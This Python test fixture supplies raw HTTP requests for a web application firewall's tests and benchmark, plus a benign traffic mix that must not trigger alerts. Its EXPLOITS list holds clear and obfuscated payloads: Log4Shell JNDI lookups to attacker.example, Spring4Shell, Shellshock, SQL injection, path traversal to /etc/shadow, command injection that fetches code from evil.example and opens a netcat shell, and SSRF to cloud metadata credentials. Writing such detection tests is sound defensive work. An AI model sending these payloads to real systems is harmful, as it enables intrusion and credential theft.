"""Requests for the WAF tests and benchmark: exploits (clear and obfuscated) per built-in sensor,
and a benign mix that must raise nothing (documentation about JNDI, JSON with ``$``, SQL words in
prose, ordinary paths, a web application's everyday traffic)."""

from __future__ import annotations

import json
from urllib.parse import quote


def get(target: str, *headers: str, host: str = "orders") -> bytes:
    lines = [f"GET {target} HTTP/1.1", f"Host: {host}", *headers, "", ""]
    return "\r\n".join(lines).encode("latin-1")


def post(target: str, body: str, ctype: str = "application/json", *headers: str) -> bytes:
    raw = body.encode("utf-8")
    lines = [
        f"POST {target} HTTP/1.1",
        "Host: orders",
        f"Content-Type: {ctype}",
        f"Content-Length: {len(raw)}",
        *headers,
        "",
        "",
    ]
    return "\r\n".join(lines).encode("latin-1") + raw


def _q(text: str) -> str:
    return quote(text, safe="")


# (sensor, request); "clear" and obfuscated forms of each attack
EXPLOITS: list[tuple[str, bytes]] = [
    # Log4Shell
    ("waf.log4shell", get("/", "User-Agent: ${jndi:ldap://attacker.example/a}")),
    ("waf.log4shell", get("/", "X-Api-Version: ${${lower:j}ndi:ldap://attacker.example/a}")),
    ("waf.log4shell", get("/", "User-Agent: ${${::-j}${::-n}${::-d}${::-i}:rmi://x.example/a}")),
    ("waf.log4shell", get("/", "Referer: ${${env:NOPE:-j}ndi${env:NOPE:-:}ldap://x.example/a}")),
    ("waf.log4shell", get("/", "X-Forwarded-For: ${j${k8s:k5:-ND}i:dns://x.example/a}")),
    ("waf.log4shell", get("/", "User-Agent: ${${upper:j}${upper:n}di:ldaps://x.example/a}")),
    ("waf.log4shell", get("/", "User-Agent: ${${date:'j'}ndi:ldap://x.example/a}")),
    ("waf.log4shell", get("/search?q=" + _q("${jndi:ldap://x.example/a}"))),
    ("waf.log4shell", get("/search?q=%2524%257Bjndi:ldap://x.example/a%257D")),
    ("waf.log4shell", get("/", "X-Token: ${jndi:ldap://127.0.0.1#evil.example:1389/a}")),
    ("waf.log4shell", post("/login", json.dumps({"user": "${jndi:rmi://x.example/o}"}))),
    (
        "waf.log4shell",
        post("/c", "q=%24%7Bjndi%3Aldap%3A%2F%2Fx%2Fa%7D", "application/x-www-form-urlencoded"),
    ),
    ("waf.log4shell", post("/c", "<p>&#36;&#123;jndi:ldap://x/a}</p>", "text/html")),
    ("waf.log4shell", get("/", "User-Agent: ${${lower:${lower:jndi}}:ldap://x.example/a}")),
    # Spring4Shell
    (
        "waf.spring4shell",
        post(
            "/greeting",
            "class.module.classLoader.resources.context.parent.pipeline.first.pattern=x",
            "application/x-www-form-urlencoded",
        ),
    ),
    ("waf.spring4shell", get("/greeting?class.module.classLoader.URLs%5B0%5D=0")),
    (
        "waf.spring4shell",
        get("/greeting?class%2Emodule%2EclassLoader%2EDefaultAssertionStatus=true"),
    ),
    (
        "waf.spring4shell",
        post(
            "/greeting",
            "class[module][classLoader][resources]=x",
            "application/x-www-form-urlencoded",
        ),
    ),
    # Shellshock
    (
        "waf.shellshock",
        get("/cgi-bin/status", "User-Agent: () { :; }; /bin/bash -c 'cat /etc/passwd'"),
    ),
    ("waf.shellshock", get("/cgi-bin/test.cgi", "Referer: () { ignored; }; echo; /usr/bin/id")),
    ("waf.shellshock", get("/cgi-bin/x", "Cookie: () {:;}; /bin/sleep 5")),
    # SQL injection
    ("waf.sqli", get("/items?id=1%20UNION%20SELECT%20username,password%20FROM%20users")),
    ("waf.sqli", get("/items?id=1'%20UnIoN/**/SeLeCt/**/null,null--")),
    ("waf.sqli", get("/items?id=-1+union+all+select+1,2,3--")),
    ("waf.sqli", get("/items?id=1/*!50000union*/%20/*!50000select*/%201,2")),
    ("waf.sqli", get("/login?user=admin'%20or%20'1'='1")),
    ("waf.sqli", get("/login?user=x'%20OR%201=1--")),
    ("waf.sqli", get("/login?user=admin'--")),
    ("waf.sqli", get("/items?id=1;%20DROP%20TABLE%20users")),
    ("waf.sqli", get("/items?id=1';%20exec%20xp_cmdshell('dir')--")),
    ("waf.sqli", get("/items?id=1%20AND%20SLEEP(5)")),
    ("waf.sqli", get("/items?id=1';waitfor%20delay%20'0:0:5'--")),
    ("waf.sqli", get("/items?id=%2531%2527%2520or%2520%25271%2527%253D%25271")),
    ("waf.sqli", post("/search", json.dumps({"name": "' or 'a'='a"}))),
    (
        "waf.sqli",
        post(
            "/search",
            "q=1%27+union+select+null%2Cversion%28%29--",
            "application/x-www-form-urlencoded",
        ),
    ),
    ("waf.sqli", get("/", "Cookie: session=1' union select password from users--")),
    # path traversal
    ("waf.path_traversal", get("/static/../../../../etc/passwd")),
    ("waf.path_traversal", get("/static/%2e%2e/%2e%2e/etc/shadow")),
    ("waf.path_traversal", get("/static/%252e%252e%252f%252e%252e%252fetc%252fpasswd")),
    ("waf.path_traversal", get("/static/..%c0%af..%c0%afetc/passwd")),
    ("waf.path_traversal", get("/download?file=..%5c..%5cwindows%5cwin.ini")),
    ("waf.path_traversal", get("/download?file=/etc/passwd")),
    ("waf.path_traversal", get("/view?page=....//....//etc/hosts")),
    ("waf.path_traversal", get("/download?file=%u002e%u002e%u2215etc%u2215passwd")),
    ("waf.path_traversal", get("/read?f=/proc/self/environ")),
    # command injection
    ("waf.command_injection", get("/ping?host=127.0.0.1;cat%20/etc/hosts")),
    ("waf.command_injection", get("/ping?host=127.0.0.1%7Cid")),
    ("waf.command_injection", get("/ping?host=127.0.0.1%26%26whoami")),
    ("waf.command_injection", get("/ping?host=%24%28whoami%29")),
    ("waf.command_injection", get("/ping?host=`id`")),
    (
        "waf.command_injection",
        post(
            "/ping",
            "host=x%3B+wget+http%3A%2F%2Fevil.example%2Fs",
            "application/x-www-form-urlencoded",
        ),
    ),
    ("waf.command_injection", post("/run", json.dumps({"cmd": "a; nc 10.0.0.1 4444 -e /bin/sh"}))),
    ("waf.command_injection", get("/ping?host=x%0A/bin/bash%20-i")),
    ("waf.command_injection", get("/ping?host=x%7C%7C%20curl%20http://evil.example/x%7Csh")),
    # SSRF to cloud metadata
    ("waf.ssrf_metadata", get("/fetch?url=http://169.254.169.254/latest/meta-data/")),
    (
        "waf.ssrf_metadata",
        get("/fetch?url=http%3A%2F%2Fmetadata.google.internal%2FcomputeMetadata%2Fv1%2F"),
    ),
    ("waf.ssrf_metadata", get("/fetch?url=http://[fd00:ec2::254]/latest/meta-data/")),
    ("waf.ssrf_metadata", get("/fetch?url=http://2852039166/latest/")),
    ("waf.ssrf_metadata", get("/fetch?url=http://0xa9fea9fe/latest/")),
    ("waf.ssrf_metadata", get("/fetch?url=http://0xa9.0xfe.0xa9.0xfe/")),
    ("waf.ssrf_metadata", get("/fetch?url=http://0251.0376.0251.0376/")),
    ("waf.ssrf_metadata", get("/fetch?url=http://[::ffff:a9fe:a9fe]/")),
    (
        "waf.ssrf_metadata",
        post("/webhook", json.dumps({"callback": "http://169.254.169.254/computeMetadata/v1/"})),
    ),
    ("waf.ssrf_metadata", get("/fetch?url=http://169.254.170.2/v2/credentials")),
]

_DOCS = [
    "JNDI (Java Naming and Directory Interface) lookups are disabled by default since 2.16.0.",
    "Set log4j2.formatMsgNoLookups=true to turn off message lookups; the jndi protocol list is empty.",
    "The CVE-2021-44228 advisory describes how ${} lookups reached JNDI.",
    "Use java:comp/env/jdbc/orders as the JNDI name of the data source.",
    "The union of both sets is what we select for the report.",
    "Members of the union select a delegate from each shop; select the best and drop the rest.",
    "Please update your address or delete the old one; insert a new card if it expired.",
    "Select a product, then choose 1 or 2 items, or more.",
    "We sleep better knowing backups run nightly; the benchmark takes 5 minutes.",
    "Drop us a line; we will get back to you. Where 1=1 is how we started the meetup talk.",
    "Order #1234 was shipped; cat food and dog treats included.",
    "Tom & Jerry; cat and mouse | a classic.",
    "The price is $5 and the shipping $(2.50) is refunded.",
    "Edit the passwd file only with vipw, never by hand.",
    "Paths like ./data and docs/readme are relative to the project root.",
    "Our metadata service stores product metadata in Postgres.",
    "In bash, a function is declared as name () { body; }",
    "The classLoader of a module is documented in the Java module system guide.",
    "Email me at ops@example.com or call the on-call phone.",
    "A 10% discount applies & shipping is free for orders over $50.",
]

_JSON_BODIES = [
    {"template": "Hello ${name}, your order ${order_id} has shipped", "vars": {"name": "Ann"}},
    {
        "price": "$12.99",
        "currency": "USD",
        "$schema": "https://json-schema.org/draft/2020-12/schema",
    },
    {"query": {"$and": [{"status": "paid"}, {"total": {"$gt": 100}}]}},
    {"mongo": {"$or": [{"a": 1}, {"b": 2}]}, "sort": {"$natural": -1}},
    {"note": "Use $(document).ready() with jQuery", "lang": "js"},
    {"shell": "export PATH=$HOME/bin:$PATH", "comment": "set up"},
    {"regex": "^\\$\\{[a-z]+\\}$", "flags": "i"},
    {"select": ["id", "name"], "from": "orders", "where": {"status": "open"}},
    {"description": "Union Station to Grand Central, select trains only"},
    {"path": "/var/lib/app/data.db", "backup": "/srv/backups/2024-05-01"},
    {"url": "https://api.example.com/v1/orders?page=2&size=50"},
    {"ip": "10.0.0.12", "gateway": "10.0.0.1", "dns": ["1.1.1.1", "8.8.8.8"]},
    {"id": 2852039, "ts": 1716800000000, "amount": 169.25},
    {"html": "<p>Fish &amp; chips</p>", "md": "**bold** and _italic_"},
    {"items": [{"sku": "A-1", "qty": 2}, {"sku": "B-7", "qty": 1}], "coupon": "SPRING22"},
]

_PATHS = [
    "/",
    "/index.html",
    "/favicon.ico",
    "/robots.txt",
    "/sitemap.xml",
    "/api/v1/orders",
    "/api/v1/orders/42",
    "/api/v1/orders/42/items",
    "/static/js/app.3f9a2c.js",
    "/static/css/main.css",
    "/images/logo.png",
    "/docs/getting-started",
    "/docs/api/etc/overview",
    "/blog/2024/05/hello-world",
    "/account/settings",
    "/cart",
    "/checkout/payment",
    "/search?q=running+shoes",
    "/search?q=caf%C3%A9+latte",
    "/search?q=100%25+cotton",
    "/search?q=rock+%26+roll",
    "/search?q=select+a+size",
    "/search?q=union+jack+flag",
    "/search?q=java+jndi+tutorial",
    "/search?q=etc+and+so+on",
    "/products?page=2&sort=price",
    "/products?category=shoes&size=42&color=red",
    "/api/v1/users/me",
    "/health",
    "/metrics",
    "/api/v1/search?filter=name%20eq%20%27Ann%27",
    "/files/report.pdf",
    "/files/2024/Q1/summary.csv",
    "/a/b/c/d/e/f",
    "/api/v1/orders?from=2024-01-01&to=2024-01-31",
    "/login?next=%2Faccount",
    "/callback?code=abc123&state=xyz",
    "/img/w_400,h_300/photo.jpg",
    "/v2/library/nginx/manifests/latest",
    "/wiki/Path_(computing)",
    "/wiki/SQL#Queries",
    "/download/app-1.2.3.tar.gz",
    "/api/v1/nodes/169.254.1.1",
    "/track?ip=192.168.1.10",
    "/redirect?to=https%3A%2F%2Fexample.com%2F",
    "/.well-known/openid-configuration",
    "/api/graphql?query=%7Bme%7Bid%7D%7D",
    "/en-us/docs/select-element",
    "/?utm_source=news&utm_medium=email",
    "/share?text=Tom%20%26%20Jerry%3B%20cat%20and%20mouse",
]

_UA = [
    "User-Agent: Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/124.0 Safari/537.36",
    "User-Agent: Mozilla/5.0 (Macintosh; Intel Mac OS X 14_4) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.4 Safari/605.1.15",
    "User-Agent: curl/8.5.0",
    "User-Agent: python-requests/2.31.0",
    "User-Agent: Go-http-client/1.1",
]

_HEADERS = [
    "Accept: text/html,application/xhtml+xml,application/xml;q=0.9,*/*;q=0.8",
    "Accept-Language: en-US,en;q=0.9,fr;q=0.8",
    "Accept-Encoding: gzip, deflate, br",
    "Cookie: session=3f9a2c1b; theme=dark; cart=A-1|2,B-7|1",
    "Authorization: Bearer eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxMjM0In0.sig",
    "Referer: https://shop.example.com/products?page=2",
    'If-None-Match: "33a64df5"',
    "X-Request-Id: 6f1c2e3a-9b8d-4c7e-8f00-123456789abc",
    "Cache-Control: no-cache",
    "Content-Security-Policy-Report-Only: default-src 'self'; script-src 'self' 'unsafe-inline'",
]


def web_mix() -> list[bytes]:
    """Everyday traffic of a web shop: pages and API calls with browser headers, JSON bodies."""
    out: list[bytes] = []
    for i, path in enumerate(_PATHS):
        out.append(get(path, _UA[i % len(_UA)], *_HEADERS[i % 4 : i % 4 + 4]))
        out.append(get(path, _UA[(i + 2) % len(_UA)], _HEADERS[(i + 3) % len(_HEADERS)]))
    for i in range(20):
        out.append(
            post(
                "/api/v1/orders",
                json.dumps(
                    {
                        "order": i,
                        "lines": [{"sku": f"S-{i}", "qty": i % 3 + 1}],
                        "note": "leave at the door; ring twice",
                    }
                ),
            )
        )
    return out


def benign() -> list[bytes]:
    """The web mix plus the hard cases: prose, forms and JSON full of what exploits use."""
    out = web_mix()
    for i, text in enumerate(_DOCS):
        out.append(post("/api/v1/notes", json.dumps({"title": f"note {i}", "text": text})))
        out.append(
            post(
                "/comments",
                "text=" + quote(text, safe="") + "&id=" + str(i),
                "application/x-www-form-urlencoded",
            )
        )
        out.append(post("/docs", text, "text/plain; charset=utf-8"))
        out.append(get("/search?q=" + quote(text[:60], safe="")))
    for i, doc in enumerate(_JSON_BODIES):
        out.append(post("/api/v1/items", json.dumps(doc), "application/json", _UA[i % len(_UA)]))
        out.append(post("/api/v1/items?dry_run=true", json.dumps(doc, indent=2)))
    return out


BENIGN = benign()
WEB_MIX = web_mix()
